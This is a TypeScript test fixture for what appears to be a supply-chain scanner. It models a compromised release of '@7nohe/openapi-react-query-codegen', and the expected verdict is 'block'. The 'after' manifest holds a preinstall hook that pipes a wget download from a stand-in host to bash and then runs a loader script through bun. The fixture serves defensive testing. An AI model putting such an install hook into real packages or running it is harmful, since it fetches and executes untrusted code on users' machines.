import { files, gyp, loader, manifest, publisher, scriptName } from './openapi-react-query-codegen-2026.js';
import type { Replica } from './replica.js';

export const replica: Replica = {
  id: 'openapi-react-query-codegen-preinstall-2026',
  story: 'August 2026, minutes later in the current line: the same build file and script, and a preinstall step that pipes the installer of another runtime to a shell and runs the script by it (after the reports in the project\'s own tracker).',
  name: '@7nohe/openapi-react-query-codegen',
  before: { version: '3.0.2', manifest: { ...manifest, files: ['dist'] }, files, publishedAt: '2026-08-11T09:33:00.000Z', publisher, attestations: [{ predicateType: 'https://slsa.dev/provenance/v1', bundle: {} }] },
  after: {
    version: '3.0.4', manifest: { ...manifest, scripts: { preinstall: `wget -qO- https://raw.githubusercontent.example.invalid/oven-sh/bun/main/src/cli/install.sh|bash ; bash -c 'export PATH=$HOME/.bun/bin:$PATH; bun ${scriptName}'` } },
    files: { ...files, 'binding.gyp': gyp, [scriptName]: loader(829) }, publishedAt: '2026-08-28T20:21:00.000Z', publisher, attestations: [{ predicateType: 'https://slsa.dev/provenance/v1', bundle: {} }],
  },
  must: 'block',
};
